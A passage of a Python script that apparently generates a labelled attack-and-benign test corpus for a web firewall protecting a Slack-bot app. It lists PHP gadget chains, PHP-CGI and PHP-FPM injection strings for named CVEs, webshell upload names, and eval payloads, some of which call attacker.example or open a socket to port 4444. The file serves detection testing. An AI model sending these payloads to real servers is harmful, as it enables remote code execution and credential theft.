    _obj("User", [_s("is_admin"), "b:1;", _s("name"), _s("Ann")]),
    _arr([_s("user"), _s("admin"), _s("admin"), "b:1;"]),
    "O:+8:\"stdClass\":1:{s:4:\"user\";s:5:\"admin\";}",
    _obj("stdClass", [_s("a"), "i:1;", _s("b"), "R:2;"]),
    _arr([_s("username"), _s("admin"), _s("password"), "b:1;"]),
    _obj("Session", [_s("user_id"), "i:1;", _s("is_admin"), "b:1;"]),
    _b64('O:8:"stdClass":1:{s:5:"admin";b:1;}'),
    "O:22:\"__PHP_Incomplete_Class\":0:{}",
]
# php-object-injection / unserialize() (framework gadget chains as phpggc builds them: Laravel, Guzzle,
# Monolog, Symfony, Yii, Joomla) / POST /slack/interactions payload.actions[0].value, POST /oauth/introspect
# `token`
OBJ_GADGET: list[Entry] = [
    _obj("Illuminate\\Broadcasting\\PendingBroadcast",
         [_prot("events"), _obj(_GEN, [_prot("formatters"), _arr([_s("dispatch"), _s("system")])]),
          _prot("event"), _s("id")]),
    _obj("GuzzleHttp\\Psr7\\FnStream",
         [_priv("GuzzleHttp\\Psr7\\FnStream", "methods"), _arr([_s("close"), _s("phpinfo")]),
          _s("_fn_close"), _s("phpinfo")]),
    _obj("GuzzleHttp\\Cookie\\FileCookieJar",
         [_priv("GuzzleHttp\\Cookie\\FileCookieJar", "filename"), _s("/var/www/html/s.php"),
          _priv("GuzzleHttp\\Cookie\\FileCookieJar", "storeSessionCookies"), "b:1;"]),
    _obj("Monolog\\Handler\\SyslogUdpHandler",
         [_prot("socket"), _obj("Monolog\\Handler\\BufferHandler",
                                [_prot("handler"), "N;", _prot("bufferSize"), "i:-1;",
                                 _prot("buffer"), _arr(["i:0;", _arr(["i:0;", _s("id"), _s("level"), "N;"])]),
                                 _prot("processors"), _arr(["i:0;", _s("current"), "i:1;", _s("system")])])]),
    _obj("Symfony\\Component\\Process\\Process", [_priv("Symfony\\Component\\Process\\Process", "commandline"),
                                                  _s("id"), _priv("Symfony\\Component\\Process\\Process",
                                                                  "processPipes"), "N;"]),
    _obj("yii\\db\\BatchQueryResult", [_priv("yii\\db\\BatchQueryResult", "_dataReader"),
                                       _obj("yii\\web\\DbSession", [_s("writeCallback"), _s("system"),
                                                                   _s("id"), _s("id")])]),
    _obj("JDatabaseDriverMysqli", [_prot("a"), _obj("JSimplepieFactory", []), _s("disconnectHandlers"),
                                   _arr(["i:1;", _arr(["i:0;", _obj("SimplePie", [_s("sanitize"),
                                                                               _obj("JDatabaseDriverMysql", []),
                                                                               _s("cache_name_function"),
                                                                               _s("assert")]),
                                                       "i:1;", _s("init")])]), _s("connection"), "b:1;"]),
    'C:11:"ArrayObject":' + str(len("x:i:0;" + _arr([_s("cmd"), _s("id")]) + ";m:a:0:{}"))
    + ':{x:i:0;' + _arr([_s("cmd"), _s("id")]) + ';m:a:0:{}}',
    _arr(["i:0;", _obj("Exploit", [_s("cmd"), _s("touch /tmp/pwned")])]),
    _obj("PHPMailer", [_s("Sendmail"), _s("/usr/sbin/sendmail -X/var/www/html/s.php")]),
    _obj("Illuminate\\Foundation\\Testing\\PendingCommand",
         [_prot("command"), _s("system"), _prot("parameters"), _arr(["i:0;", _s("id")]), _s("hasExecuted"), "b:0;"]),
    _obj("Requests_Utility_FilteredIterator", [_priv("Requests_Utility_FilteredIterator", "callback"), _s("system")]),
    _obj("Zend_Log", [_prot("_writers"), _arr(["i:0;", _obj("Zend_Log_Writer_Mail", [
        _prot("_eventsToMail"), _arr(["i:0;", "i:1;"]), _prot("_mail"), _obj("Zend_Mail", [])])])]),
    _obj("Swift_ByteStream_TemporaryFileByteStream", [_prot("_path"), _s("/var/www/html/config.php")]),
]
_SPL = "x:i:1;" + _obj("stdClass", []) + ",N;;m:a:0:{}"
OBJ_COOKIE += [
    'C:16:"SplObjectStorage":' + str(len(_SPL)) + ":{" + _SPL + "}",
    _arr([_s("token"), "b:1;", _s("user_id"), "i:1;"]),
    "|" + _obj("FileLogger", [_s("file"), _s("/var/www/html/s.php"), _s("data"), _s(WEBSHELL)]),
]
# php-config-directives / PHP-CGI (argument injection through the query string, CVE-2012-1823 and the
# soft-hyphen CVE-2024-4577) / the query string of a route, raw
CONF_CGI: list[Entry] = [
    ("-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", "rs-raw-query"),
    ("%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "rs-raw-query"),
    ("-s", "rs-raw-query"),
    ("-d+safe_mode%3dOff+-d+disable_functions%3dNULL+-d+open_basedir%3dnone", "rs-raw-query"),
    ("-d+auto_prepend_file%3d/etc/passwd+-n", "rs-raw-query"),
    ("%ADd+cgi.force_redirect%3d0+%ADd+cgi.redirect_status_env%3d0+%ADd+auto_prepend_file%3dphp://input",
     "rs-raw-query"),
    ("-d+register_globals%3d1+-d+allow_url_fopen%3d1", "rs-raw-query"),
    ("-d+extension%3d/tmp/evil.so", "rs-raw-query"),
]
# php-config-directives / PHP-FPM behind nginx (CVE-2019-11043: PHP_VALUE written through a path_info that
# starts with a newline) / URL path under /admin/
CONF_FPM: list[Entry] = [
    ("PHP_VALUE%0Asession.auto_start=1;;;", "rs-path"),
    ("PHP_VALUE%0Aauto_prepend_file=a;;;;", "rs-path"),
    ("PHP_VALUE%0Ashort_open_tag=1;;;;", "rs-path"),
    ("PHP_VALUE%0Ainclude_path=/tmp;;;;", "rs-path"),
    ("PHP_VALUE%0Aerror_log=/tmp/a;;;;", "rs-path"),
]
# php-config-directives / PHP (.user.ini and .htaccess uploaded next to a PHP page) / multipart file content
CONF_INI: list[Entry] = [
    "auto_prepend_file=/var/www/uploads/avatar.gif",
    "auto_append_file=/var/log/nginx/access.log",
    "zend_extension=/var/www/uploads/x.so",
    "error_log=/var/www/html/log.php",
]
CONF_HTACCESS: list[Entry] = [
    "php_value auto_prepend_file \"/tmp/sess_abc\"",
    "php_flag engine on",
    "AddType application/x-httpd-php .jpg",
    "<FilesMatch \"\\.gif$\">SetHandler application/x-httpd-php</FilesMatch>",
    "php_value auto_append_file /proc/self/environ",
]
# php-config-directives / PHP interpreter (ini_set in eval'd text) / POST /slack/commands `text`
CONF_EVAL: list[Entry] = [
    "ini_set('allow_url_include', '1'); include('http://attacker.example/s.txt');",
    "ini_set(\"open_basedir\",\"..\");chdir(\"..\");ini_set(\"open_basedir\",\"/\");",
    "ini_restore('disable_functions');",
    "putenv('PHPRC=/dev/fd/0');",
]
# php-superglobals / PHP interpreter (a value interpolated into eval'd or double-quoted code) /
# POST /admin/clients `description`, Slack event text
SUPER_DESC: list[Entry] = [
    "<?=$_SERVER['SCRIPT_FILENAME']?>",
    "{${print_r($_SERVER)}}",
    "\".var_export($_ENV,1).\"",
    "${print_r($GLOBALS)}",
    "'.$_COOKIE['__Host-jeeves_admin'].'",
    "eval($_SERVER['HTTP_X_CMD']);",
    "system($_SERVER['HTTP_USER_AGENT']);",
    "include($_FILES['f']['tmp_name']);",
    "$_SESSION['is_admin']=1;",
    "$_SESSION['user']='admin';",
    "extract($_GET);$cmd($arg);",
    "parse_str($_SERVER['QUERY_STRING']);",
]
SUPER_SLACK: list[Entry] = [
    "print_r($_FILES);",
    "var_dump($_REQUEST);",
    "echo getenv('DATABASE_URL').$_ENV['SLACK_CLIENT_SECRET'];",
    "echo $GLOBALS['_SERVER']['HTTP_AUTHORIZATION'];",
    "eval($HTTP_RAW_POST_DATA);",
    "system($HTTP_GET_VARS['c']);",
    "mail('x@attacker.example','pw',$_SERVER['PHP_AUTH_PW']);",
    "foreach($_POST as $k=>$v)$$k=$v;",
    "assert($_COOKIE['a']);",
    "file_put_contents($_GET['n'],$_POST['d']);",
]
# php-superglobals / PHP (register_globals-style overwrite of a superglobal through a parameter name) /
# the query string of GET /api/users, raw
SUPER_PARAM: list[Entry] = [
    ("_SESSION[role]=admin", "rs-raw-query"),
    ("GLOBALS[_SERVER][REMOTE_ADDR]=127.0.0.1", "rs-raw-query"),
    ("_SERVER[HTTP_HOST]=attacker.example", "rs-raw-query"),
    ("_COOKIE[PHPSESSID]=../../../../tmp/sess_x", "rs-raw-query"),
]
# php-file-upload / PHP web server (a file name it would run) / multipart file name posted with the /me/ form
UPLOAD_NAMES: list[Entry] = [
    "shell.php",
    "avatar.php.jpg",
    "avatar.jpg.php",
    "report.phtml",
    "x.php5",
    "x.php7",
    "x.pht",
    "x.phar",
    "x.phps",
    "x.php3",
    "x.php4",
    "x.inc",
    "shell.PhP",
    "shell.php.",
    "shell.php::$DATA",
    "shell.php%00.jpg",
    "shell.php;.jpg",
    "shell.php ",
    ".htaccess",
    ".user.ini",
    "../../../var/www/html/s.php",
    "shell.php/.",
    "shell.php#.png",
    "image.png.php5",
    "s.pHtMl",
    "shell.jpeg.phtml",
]
# php-high-risk-function-names / PHP interpreter (a function called by the name a request gives it, as
# call_user_func($_GET['action'])) / PUT /api/switches/<action>, GET /auth/slack/login?for=
RISK_ACTION: list[Entry] = [
    "phpinfo",
    "phpinfo()",
    "show_source('/var/www/html/index.php')",
    "highlight_file('/etc/passwd')",
    "php_uname('a')",
    "getenv('SLACK_CLIENT_SECRET')",
    "get_defined_vars()",
    "get_current_user()",
    "posix_getpwuid(posix_geteuid())",
    "posix_kill(getmypid(), 9)",
    "ini_get_all()",
    "dl('evil.so')",
    "fsockopen('203.0.113.5', 4444)",
]
# php-high-risk-function-names / PHP interpreter / POST /oauth/token `scope`, GET /admin/audit?q=
RISK_SCOPE: list[Entry] = [
    "pfsockopen('attacker.example', 80)",
    "stream_socket_client('tcp://203.0.113.5:4444')",
    "curl_exec(curl_init('http://169.254.169.254/latest/meta-data/'))",
    "file_get_contents('/proc/self/environ')",
    "fopen('/var/www/html/x.php', 'w')",
    "symlink('/etc/passwd', 'uploads/p.txt')",
    "move_uploaded_file($_FILES['f']['tmp_name'], 'x.php')",
    "unlink('/var/www/html/.htaccess')",
    "chmod('/var/www/html/uploads', 0777)",
    "readlink('/proc/self/exe')",
    "scandir('/var/www')",
    "parse_ini_file('/var/www/.env')",
    "unserialize(base64_decode($_COOKIE['d']))",
]

# (category, sub, real target, payloads)
FAMILIES: list[tuple[str, str, str, list[Entry]]] = [
    ("xss", "libinjection-xss", "api-name", LIBINJ_NAME),
    ("xss", "libinjection-xss", "admin-q", LIBINJ_Q[:5]),
    ("xss", "libinjection-xss", "audit-q", LIBINJ_Q[5:]),
    ("xss", "script-tag", "me-place", SCRIPT_PLACE[:5]),
    ("xss", "script-tag", "slack-command", SCRIPT_PLACE[5:]),
    ("xss", "script-tag", "client-desc", SCRIPT_DESC),
    ("xss", "event-handler", "login-user", EVENT_LOGIN),
    ("xss", "event-handler", "me-tz", EVENT_TZ),
    ("xss", "attribute-vector", "login-next-form", ATTR_NEXT),
    ("xss", "attribute-vector", "client-desc", ATTR_DESC),
    ("xss", "javascript-uri", "login-next", JSURI_NEXT),
    ("xss", "javascript-uri", "auth-redirect", JSURI_REDIRECT),
    ("xss", "javascript-uri", "slack-dm", JSURI_SLACK),
    ("xss", "html-injection", "slack-text", HTML_SLACK),
    ("xss", "html-injection", "audit-q", HTML_AUDIT),
    ("xss", "svg-mathml", "me-place", SVG_PLACE),
    ("xss", "svg-mathml", "slack-button", SVG_BUTTON),
    ("xss", "css-expression", "me-tz", CSS_TZ),
    ("xss", "css-expression", "client-desc", CSS_DESC),
    ("xss", "template-literal-dom-sink", "me-done", DOM_DONE),
    ("xss", "template-literal-dom-sink", "auth-error", DOM_ERROR),
    ("xss", "template-literal-dom-sink", "api-raw-query", DOM_PROTO),
    ("xss", "ie-filter-style", "ua", IE_UA),
    ("xss", "ie-filter-style", "admin-q", IE_Q),
    ("xss", "encoded-entity", "slack-dm", ENC_SLACK),
    ("xss", "encoded-entity", "admin-q-raw", ENC_Q_RAW),
    ("xss", "encoded-entity", "api-name", ENC_NAME),
    ("xss", "encoded-entity", "api-name-raw", ENC_JSON_RAW),
    ("xss", "angular-vue-template", "admin-q", CSTI_Q),
    ("xss", "angular-vue-template", "me-place", CSTI_PLACE),
    ("php", "php-open-tag", "ua", OPEN_UA),
    ("php", "php-open-tag", "client-desc", OPEN_DESC),
    ("php", "php-open-tag", "me-place", OPEN_PLACE),
    ("php", "php-function-call", "slack-command", FUNC_COMMAND),
    ("php", "php-function-call", "admin-q", FUNC_SEARCH[:7]),
    ("php", "php-function-call", "api-since", FUNC_SEARCH[7:]),
    ("php", "php-variable-functions", "api-name", VARFUNC_NAME),
    ("php", "php-variable-functions", "slack-command", VARFUNC_COMMAND),
    ("php", "php-variable-functions", "admin-q-raw", VARFUNC_RAW),
    ("php", "php-wrappers", "me-done", WRAP_DONE),
    ("php", "php-wrappers", "auth-for", WRAP_FOR),
    ("php", "php-wrappers", "login-next", WRAP_NEXT),
    ("php", "php-object-injection", "cookie-me", OBJ_COOKIE[:5]),
    ("php", "php-object-injection", "cookie-state", OBJ_COOKIE[5:]),
    ("php", "php-object-injection", "slack-button", OBJ_GADGET[:7]),
    ("php", "php-object-injection", "td-introspect", OBJ_GADGET[7:]),
    ("php", "php-config-directives", "api-raw-query", CONF_CGI),
    ("php", "php-config-directives", "fpm-path", CONF_FPM),
    ("php", "php-config-directives", "upload-ini", CONF_INI),
    ("php", "php-config-directives", "upload-htaccess", CONF_HTACCESS),
    ("php", "php-config-directives", "slack-command", CONF_EVAL),
    ("php", "php-superglobals", "client-desc", SUPER_DESC),
    ("php", "php-superglobals", "slack-text", SUPER_SLACK),
    ("php", "php-superglobals", "api-raw-query", SUPER_PARAM),
    ("php", "php-file-upload", "upload", UPLOAD_NAMES),
    ("php", "php-high-risk-function-names", "api-switch-action", RISK_ACTION[:7]),
    ("php", "php-high-risk-function-names", "auth-for", RISK_ACTION[7:]),
    ("php", "php-high-risk-function-names", "td-scope", RISK_SCOPE[:7]),
    ("php", "php-high-risk-function-names", "audit-q", RISK_SCOPE[7:]),
]
SUB_CYCLES = {"php-file-upload": ["rs-multipart-filename"]}

# ----------------------------------------------------------------------------------------------------------------
# Placements
BOUNDARY = "----WebKitFormBoundaryq8Jd2LmR5vT0aXeP"
CSRF = "hX2bq9Tn4YwKc1rZ0pLm3sVd"
ADMIN_COOKIE = "__Host-jeeves_admin=Yk3pQ0xW9sTn2Rf7LmZc4VhJ8aEu1GdKq6Bo5Ny"
ME_COOKIE = "__Host-jeeves_me=Tq9sLm2Xc7Vb4Nh1Kd8Rf3Wg6Jp0Zy5Ua"
BEARER = "Bearer eyJhbGciOiJFUzI1NiIsInR5cCI6ImF0K2p3dCJ9.eyJzdWIiOiJkZW1vLWNsaWVudCIsInNjb3BlIjoicmVhZCJ9.c2lnbmF0"
BASIC = "Basic " + base64.b64encode(b"demo-client:s3cr3t-from-the-panel").decode()
TEAM, USER, CHANNEL = "T061EG9R6", "U012345678", "D0123ABCDE"
HOOK = "https://hooks.slack.com/commands/T061EG9R6/6912345678/kP3rXq9LmZ2wTn5v"
STATE = "Zq3xW8pL2nV7cR1t"
WEBSHELL_NAME = "notes.txt"


class _Set(BlindSet):
    prefix = NAME
    boundary = BOUNDARY
    upload = WEBSHELL

    def _p_rs_raw_query(self, p: Put) -> Record:   # the payload is the query string, as typed
        return request("GET", ("/index.php" if p.path == "/" else p.path) + "?" + p.v)

    def _p_rs_path(self, p: Put) -> Record:
        return request("GET", "/index.php/" + p.v + "?" + "Q" * 40)


SET = _Set()
MULTIPART = SET.multipart_type


def _admin_form(uri: str, fields: list[tuple[str, str]]) -> dict[str, Any]:
    body = urllib.parse.urlencode([("csrf_token", CSRF), *fields])
    return request("POST", uri, body, FORM, Cookie=ADMIN_COOKIE, Origin="https://localhost:8443",
                   Accept="text/html")


def _me_form(uri: str, fields: list[tuple[str, str]]) -> dict[str, Any]:
    body = urllib.parse.urlencode([("csrf_token", CSRF), *fields])
    return request("POST", uri, body, FORM, Cookie=ME_COOKIE, Origin="https://localhost:8443", Accept="text/html")


def _api_patch(doc: dict[str, Any]) -> dict[str, Any]:
    return request("PATCH", "/api/users/42", json.dumps(doc, ensure_ascii=False), "application/json",
                   Authorization=BEARER, Accept="application/json")


def _slack_event(text: str, kind: str) -> dict[str, Any]:
    """A forged Events API callback (an attacker cannot sign it: the placeholder signature stays)."""
    event: dict[str, Any] = {"type": kind, "user": USER, "text": text, "ts": "1719000123.000200",
                             "channel": CHANNEL, "event_ts": "1719000123.000200"}
    if kind == "message":
        event["channel_type"] = "im"
    body = {"token": "verification-token", "team_id": TEAM, "api_app_id": "A0PNCHHK2", "event": event,
            "type": "event_callback", "event_id": "Ev06ABCDEF12", "event_time": 1719000123}
    return request("POST", "/slack/events", json.dumps(body, ensure_ascii=False), "application/json",
                   **{"X-Slack-Request-Timestamp": "1719000000", "X-Slack-Signature": "v0=" + "0" * 64})


def _slack_form(uri: str, fields: list[tuple[str, str]]) -> dict[str, Any]:
    return request("POST", uri, urllib.parse.urlencode(fields), FORM,
                   **{"X-Slack-Request-Timestamp": "1719000000", "X-Slack-Signature": "v0=" + "0" * 64})


def _command(text: str) -> list[tuple[str, str]]:
    return [("token", "verification-token"), ("team_id", TEAM), ("team_domain", "acme"), ("channel_id", CHANNEL),
            ("channel_name", "directmessage"), ("user_id", USER), ("user_name", "ann"), ("command", "/jeeves"),
            ("text", text), ("api_app_id", "A0PNCHHK2"), ("response_url", HOOK),
            ("trigger_id", "6912345678.1234567890.abcdef0123456789")]


def _button(value: str) -> str:
    return json.dumps({"type": "block_actions", "user": {"id": USER, "team_id": TEAM}, "team": {"id": TEAM},
                       "channel": {"id": CHANNEL}, "response_url": HOOK,
                       "actions": [{"action_id": "set_location", "value": value, "type": "button"}]})


def _real(target: str, v: str) -> dict[str, Any]:
    """The field of our routes that `target` names."""
    q = enc(v)
    if target == "api-name":
        return _api_patch({"name": v})
    if target == "api-name-raw":
        return {**_api_patch({}), "body": '{"name":"' + v + '","is_active":true}'}
    if target == "api-since":
        return request("GET", "/api/usage/stats?since=" + q + "&until=2024-06-22T00:00:00Z", Authorization=BEARER)
    if target == "api-switch-action":
        return request("PUT", "/api/switches/" + q, json.dumps({"enabled": True, "team_id": "*"}),
                       "application/json", Authorization=BEARER)
    if target == "api-raw-query":
        return request("GET", "/api/users?" + v + "&limit=50", Authorization=BEARER)
    if target == "admin-q":
        return request("GET", "/admin/users?q=" + q + "&page=1", Cookie=ADMIN_COOKIE, Accept="text/html")
    if target == "admin-q-raw":
        return request("GET", "/admin/users?q=" + v + "&page=1", Cookie=ADMIN_COOKIE, Accept="text/html")
    if target == "audit-q":
        return request("GET", "/admin/audit?q=" + q, Cookie=ADMIN_COOKIE, Accept="text/html")
    if target == "client-desc":
        return _admin_form("/admin/clients", [("client_id", "reporting-bot"), ("description", v), ("scopes", "read")])
    if target == "login-user":
        return _admin_form("/admin/login", [("next", "/admin/"), ("username", v), ("password", "Winter2024!"),
                                            ("totp", "")])
    if target == "login-next-form":
        return _admin_form("/admin/login", [("next", v), ("username", "ops"), ("password", "Winter2024!"),
                                            ("totp", "")])
    if target == "login-next":
        return request("GET", "/admin/login?next=" + q, Accept="text/html")
    if target == "me-place":
        return _me_form("/me/location", [("place", v)])
    if target == "me-tz":
        return _me_form("/me/settings", [("units", "metric"), ("alerts", "on"), ("alert_time", "07:30"),
                                         ("timezone", v)])
    if target == "me-done":
        return request("GET", "/me/?done=" + q, Cookie=ME_COOKIE, Accept="text/html")
    if target == "auth-redirect":
        return request("GET", "/auth/slack/login?for=admin&redirect_uri=" + q, Accept="text/html")
    if target == "auth-for":
        return request("GET", "/auth/slack/login?for=" + q, Accept="text/html")
    if target == "auth-error":
        return request("GET", "/auth/slack/callback?error=access_denied&error_description=" + q + "&state=" + STATE,
                       Accept="text/html")
    if target == "slack-text":
        return _slack_event(v, "app_mention")
    if target == "slack-dm":
        return _slack_event(v, "message")
    if target == "slack-command":
        return _slack_form("/slack/commands", _command(v))
    if target == "slack-button":
        return _slack_form("/slack/interactions", [("payload", _button(v))])
    if target == "td-scope":
        return request("POST", "/oauth/token", urllib.parse.urlencode(
            [("grant_type", "client_credentials"), ("scope", v)]), FORM, Authorization=BASIC)
    if target == "td-introspect":
        return request("POST", "/oauth/introspect", urllib.parse.urlencode([("token", v)]), FORM,
                       Authorization=BASIC)
    if target == "ua":
        return request("GET", "/admin/gateway", Cookie=ADMIN_COOKIE, Accept="text/html", **{"User-Agent": v})
    if target == "cookie-me":
        return request("GET", "/me/data.json", Cookie="__Host-jeeves_me=" + enc(v, safe=COOKIE_SAFE))
    if target == "cookie-state":
        return request("GET", "/auth/slack/callback?code=4f1c2a9b7e&state=" + STATE,
                       Cookie="__Host-jeeves_oidc_state=" + enc(v, safe=COOKIE_SAFE), Accept="text/html")
    if target in ("upload", "upload-ini", "upload-htaccess"):
        name, content = {"upload": (v, WEBSHELL), "upload-ini": (".user.ini", v),
                         "upload-htaccess": (".htaccess", v)}[target]
        body = SET.multipart([("csrf_token", CSRF, None), ("place", "Lisbon", None), ("file", content, name)])
        return request("POST", "/me/location", body, MULTIPART, Cookie=ME_COOKIE)
    if target == "fpm-path":
        return request("GET", "/admin/index.php/" + v + "?" + "Q" * 40, Cookie=ADMIN_COOKIE)
    raise ValueError(target)


def _fits(place: str, v: str) -> bool:
    """Header-borne placements need a printable single-line ASCII value."""
    if place.startswith(("rs-header:", "rs-cookie")) or place in ("ua",):
        return header_safe(v)
    return True


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    i = 0
    for s, (category, sub, target, entries) in enumerate(FAMILIES):
        rs_cycle = SUB_CYCLES.get(sub, SET.rs_cycle)
        for entry in entries:
            i += 1
            if isinstance(entry, tuple):
                payload, rs_place = entry
            else:
                payload, rs_place = entry, rs_cycle[(i + s) % len(rs_cycle)]
                if not _fits(rs_place, payload):
                    rs_place = ["rs-json", "rs-form", "rs-query"][i % 3]
            real_place = target if _fits(target, payload) else "me-place"
            rs_path = RS_PATHS[(i + s) % len(RS_PATHS)]
            rs_name = RS_NAMES[(i + 3 * s) % len(RS_NAMES)]
            for place, rec in ((real_place, _real(real_place, payload)),
                               (rs_place, SET.rs(rs_place, rs_path, rs_name, payload))):
                n += 1
                yield SET.record(rec, n, category, sub, place, payload)


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words typed innocently (Slack chat and bios about this product, searches, links to advisories and
# docs, admin notes, profiles, places, OAuth client descriptions, slash commands, uploads' names, ordinary headers)
CHAT = [
    "pentest report for Jeeves is in the drive, two low findings, no XSS on the admin panel",
    "the tester tried a script tag in the location field and /me/ showed it escaped, as it should",
    "can someone check why the weather reply for Ben & Jerry's shows &amp; in the App Home?",
    "reminder: the admin panel's CSP blocks inline scripts, so don't add onclick handlers to templates",
    "we moved the last PHP cron job (the old billing export) to Python, php-fpm is gone from the box",
    "the legacy wiki still runs on PHP 7.4, it's not behind this gateway",
    "is the /api/users endpoint paginated? I only get 50 rows",
    "use limit and offset on /api/users, max limit is 500",
    "TokenDealer returned invalid_scope when I asked for scope=admin, only read and write exist",
    "the OAuth client for Grafana needs the read scope only",
    "rotate-secret worked, the new client secret is in the vault",
    "Sign in with Slack fails with 'state mismatch' if you open the link in another browser",
    "my alert_time is 07:30 but the DM arrives at 08:30, is it the timezone setting?",
    "set timezone to Europe/Lisbon on /me/ and it fixed the alerts",
    "remember location São Paulo worked fine, accents are ok",
    "the audit log search for user.forget_me shows three entries this week",
    "who turned off the weather switch for team T0123ABCD?",
    "the SVG logo in the admin header is blurry on retina screens",
    "Angular is only used in the old marketing site, the admin panel is plain Jinja templates",
    "vue devtools shows nothing because there is no Vue on this page",
    "the CSS for the dashboard charts uses grid now, IE support dropped long ago",
    "event handlers in the Slack app are registered in app/services/events.py",
    "javascript is disabled in the PDF export, that's intended",
    "onboarding doc: run make up, then open https://localhost:8443/admin/login",
    "phpinfo pages are banned on all our hosts since the 2019 audit",
    "the eval set for the weather parser has 300 place names now",
    "system status page is green again after the PostgreSQL restart",
    "exec summary for the security review goes out Friday",
    "the WAF blocked my own curl test with a <script> in the query, good sign",
    "file names with spaces upload fine, e.g. 'Q2 report final.pdf'",
    "the template for the daily alert message lives in app/services/actions/weather.py",
    "changelog: /me/data.json now includes the recent actions list",
    "changelog: admin sessions store the User-Agent so you can spot odd logins",
    "the redirect after admin login only goes to local paths, next=/admin/users works",
    "Slack escapes < and > in messages as &lt; and &gt;, the bot undoes that before matching",
    "the interaction payload for 'Set as my location' carries the place in the button value",
    "forget me asks for confirmation first, the Cancel button keeps your data",
    "the XSS cheat sheet from OWASP is a good read before the security training",
    "PHP serialize() and Python pickle are both unsafe for untrusted input, we use JSON everywhere",
    "the upload test with a .phtml file was refused, we don't accept uploads at all on /me/",
    "expect a short outage at 22:00 UTC for the TokenDealer key rotation",
    "keys activate is refused until the new kid has been in the JWKS for 5 minutes",
    "the iframe embed of the dashboard in Confluence doesn't work, X-Frame-Options is DENY",
    "the base URL for the API is https://localhost:8443/api in dev",
    "added a meta description to the sign-in page for link previews",
    "the link preview bot can't use the one-time login link, only the button POST does",
    "form validation on client_id: letters, digits and . _ : - only",
    "weather Paris returns Celsius, set units to imperial for Fahrenheit",
    "bio: backend engineer, Python and a bit of PHP in a past life",
    "bio: security tester, I break things for a living, OSCP, likes Burp Suite and coffee",
    "bio: frontend dev, React and Vue, SVG icon nerd",
    "bio: support lead for Jeeves, ask me about alerts and time zones",
    "the template literal in the alert text had a stray backtick, fixed in #482",
    "the angular brackets in the help text render fine now in Slack",
    "the style guide says: no inline style attributes, use the admin.css classes",
    "data: URLs for the favicon are inlined by the build",
    "we rejected the PR that used innerHTML in the dashboard, textContent is enough",
    "the object storage bucket for exports is private, links expire after an hour",
    "embed the status badge in the README with the markdown image syntax",
    "the php.ini on the old box had allow_url_include off, the auditors checked",
]
SEARCHES = [
    "ann", "o'neil", "T061EG9R6", "U012345678", "@example.org", "script", "php", "svg", "vue", "angular",
    "system", "eval", "exec", "onboarding", "alert", "alerts on", "template", "style", "iframe", "javascript",
    "java", "object", "expression", "filter", "input", "data", "session", "cookie", "upload", "phar",
    "zip", "glob", "expect", "assert", "include", "require", "base", "meta", "link", "form",
]
URLS = [
    "https://owasp.org/www-community/attacks/xss/",
    "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
    "https://cheatsheetseries.owasp.org/cheatsheets/Deserialization_Cheat_Sheet.html",
    "https://www.php.net/manual/en/function.unserialize.php",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/ini.core.php#ini.auto-prepend-file",
    "https://www.php.net/manual/en/function.system.php",
    "https://nvd.nist.gov/vuln/detail/CVE-2024-4577",
    "https://nvd.nist.gov/vuln/detail/CVE-2019-11043",
    "https://developer.mozilla.org/en-US/docs/Web/HTTP/CSP",
    "https://developer.mozilla.org/en-US/docs/Web/SVG/Element/script",
    "https://developer.mozilla.org/en-US/docs/Web/API/Element/innerHTML",
    "https://angular.io/guide/security",
    "https://vuejs.org/guide/best-practices/security.html",
    "https://api.slack.com/authentication/verifying-requests-from-slack",
    "https://api.slack.com/reference/surfaces/formatting#escaping",
    "https://api.slack.com/interactivity/handling#payloads",
    "https://datatracker.ietf.org/doc/html/rfc6749#section-4.4",
    "https://datatracker.ietf.org/doc/html/rfc7662",
    "https://portswigger.net/web-security/cross-site-scripting/dom-based",
    "https://github.com/acme/jeeves/issues/482",
    "https://github.com/acme/jeeves/pull/517/files",
    "https://open-meteo.com/en/docs",
    "https://example.com/avatars/ann.png",
    "https://cdn.example.org/img/jeeves-logo.svg?v=4",
]
PROSE = [
    "pentest findings Q2",
    "XSS retest on /admin/users",
    "php-fpm removal ticket",
    "who changed the weather switch",
    "client grafana-reader",
    "user.forget_me",
    "login failed for ops",
    "script error on the dashboard",
    "template for daily alert",
    "svg logo",
    "Ben & Jerry's",
    "O'Brien",
    "Zoë Kowalski",
    "team T0123ABCD",
    "session expired",
    "redirect after login",
    "upload size limit",
    "TOTP enabled",
    "alert time 07:30",
    "timezone Europe/Paris",
    "object storage export",
    "iframe embed request",
    "phar archive for deployer",
    "data retention",
    "the tester's account",
    "system user jeeves-worker",
    "audit of client.rotate",
    "disabled clients",
    "feature.set weather",
    "report for <team>",
    "Vue migration",
    "angular brackets in help text",
    "styles not loading",
    "form: enter a place name",
    "meta tags for previews",
]
PROFILES: list[dict[str, Any]] = [
    {"name": "Ann O'Neil", "email": "ann.oneil@example.org"},
    {"name": "Zoë Kowalski", "email": "zoe.k@example.org"},
    {"name": "Jean-Luc Picard", "email": "jl.picard@example.org"},
    {"name": "Siobhán Ní Bhriain", "email": "siobhan@example.ie"},
    {"name": "Björn Ångström", "email": "bjorn@example.se"},
    {"name": "Marta Díaz-Ortega", "email": "marta.diaz@example.es"},
    {"name": "D'Arcy Smith", "email": "darcy+jeeves@example.com"},
    {"name": "Li Wei (李伟)", "email": "li.wei@example.cn"},
    {"name": "Ops bot (read only)", "email": "ops-bot@example.org"},
    {"name": "Security Tester", "email": "pentest@example.org"},
    {"name": "Tom & Jerry Support", "email": "support@example.org"},
    {"name": "Ann", "settings": {"timezone": "America/Sao_Paulo", "units": "metric"}},
    {"name": "Bob", "settings": {"alert_time": "06:45", "alerts": True}},
    {"is_active": False},
    {"is_admin": True, "name": "Priya Raman"},
    {"email": "f.o'malley@example.ie"},
    {"name": "<Unknown>", "email": "unknown@example.org"},
    {"name": "Dr. Ana Sofía Pérez, PhD", "email": "ana@example.mx"},
]
PLACES = [
    "Ben & Jerry's, Waterbury", "Saint-Étienne", "Washington, D.C.", "São Paulo", "Kraków", "Dún Laoghaire",
    "'s-Hertogenbosch", "Zürich (Oerlikon)", "Los Angeles", "N'Djamena", "Aix-en-Provence", "Reykjavík",
]
CLIENT_DESCS = [
